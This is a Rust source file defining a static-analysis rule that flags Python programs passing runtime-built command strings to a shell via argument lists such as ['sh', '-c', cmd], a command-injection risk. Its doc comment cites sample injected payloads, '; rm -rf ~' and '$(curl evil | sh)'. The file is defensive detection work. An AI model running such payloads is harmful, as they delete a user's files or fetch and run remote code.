use super::commands::{Command, basename, command_functions, command_of, is_quoted};
use crate::CallFilter;
use crate::checker::Checker;
use crate::declare_rule;
use crate::helpers::string_value;
use crate::rule::Category;
use vigil_python::Ranged;
use vigil_python::ast::{Expr, ExprCall};
use vigil_report::{Confidence, Severity};

const POSIX_SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "busybox"];
const WINDOWS_SHELLS: &[&str] = &["cmd", "cmd.exe"];
const POWERSHELLS: &[&str] = &["powershell", "powershell.exe", "pwsh", "pwsh.exe"];

/// In an argument list that starts a shell with a command string
/// (`["sh", "-c", cmd]`, `["cmd", "/c", cmd]`, `["pwsh", "-Command", cmd]`),
/// the command string.
pub fn shell_payload<'e, 'a: 'e>(checker: &Checker<'a>, words: &[&'e Expr]) -> Option<&'e Expr> {
    let literal = |e: &Expr| string_value(checker.constant_value(e));
    let shell_at = words
        .iter()
        .take(4)
        .position(|w| literal(w).is_some_and(|s| is_shell(basename(&s))))?;
    let shell = literal(words[shell_at])?.to_ascii_lowercase();
    let shell = basename(&shell).to_string();
    let mut i = shell_at + 1;
    while i < words.len() {
        let word = literal(words[i])?;
        let lower = word.to_ascii_lowercase();
        let runs_command = if POSIX_SHELLS.contains(&shell.as_str()) {
            lower.len() > 1
                && lower.starts_with('-')
                && !lower.starts_with("--")
                && lower[1..].chars().all(|c| c.is_ascii_alphabetic())
                && lower.contains('c')
        } else if WINDOWS_SHELLS.contains(&shell.as_str()) {
            lower == "/c" || lower == "/k"
        } else {
            lower == "-c" || lower == "-command"
        };
        if runs_command {
            return words.get(i + 1).copied();
        }
        if !lower.starts_with(['-', '/', '+']) {
            return None;
        }
        // `-o pipefail`: an option with a separate value.
        i += if lower == "-o" || lower == "+o" { 2 } else { 1 };
    }
    None
}

fn is_shell(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    [POSIX_SHELLS, WINDOWS_SHELLS, POWERSHELLS]
        .iter()
        .any(|list| list.contains(&name.as_str()))
}

fn check(checker: &mut Checker, call: &ExprCall, qualified: Option<&str>) {
    let Some(qualified) = qualified else { return };
    let Some(Command::Argv(words)) = command_of(checker, call, qualified) else {
        return;
    };
    let Some(payload) = shell_payload(checker, &words) else {
        return;
    };
    if is_quoted(checker, payload) {
        return;
    }
    let message = format!(
        "`{}` starts a shell with a command string built at run time (`{}`): shell metacharacters in it are executed",
        checker.snippet(&*call.func),
        checker.snippet(payload),
    );
    checker.report(&RULE, call.range(), message);
}

declare_rule! {
    /// ## What it does
    /// Flags programs started with an argument list that runs a shell on a
    /// command string built at run time: `["sh", "-c", cmd]`,
    /// `["bash", "-lc", cmd]`, `["cmd", "/c", cmd]`,
    /// `["powershell", "-Command", cmd]`, with `subprocess`, `asyncio`,
    /// `os.exec*`/`os.posix_spawn` or `pty.spawn`.
    ///
    /// ## Why is this bad?
    /// Passing a list instead of `shell=True` looks safe, but the shell
    /// named first parses its command string exactly as `shell=True`
    /// would: `; rm -rf ~` or `$(curl evil | sh)` inside it runs. Parts
    /// quoted with `shlex.quote` are accepted.
    ///
    /// ## Example
    /// ```python
    /// subprocess.run(["bash", "-c", f"grep {pattern} /var/log/app.log"])
    /// ```
    ///
    /// ## Use instead
    /// Run the program directly with one list element per argument:
    /// ```python
    /// subprocess.run(["grep", "--", pattern, "/var/log/app.log"])
    /// ```
    /// If a shell is needed, quote every dynamic part with `shlex.quote()`.
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    pub static RULE = {
        name: "subprocess-shell-argv",
        category: Category::Injection,
        cwe: &[78],
        severity: Severity::High,
        confidence: Confidence::High,
        bandit: &[],
        ruff: &[],
        help: "Run the program directly with a list of arguments instead of `sh -c`; if a shell is needed, quote every dynamic part with `shlex.quote()`.",
        on_call: check,
        call_filter: CallFilter { names: command_functions, ..CallFilter::NONE },
    };
}
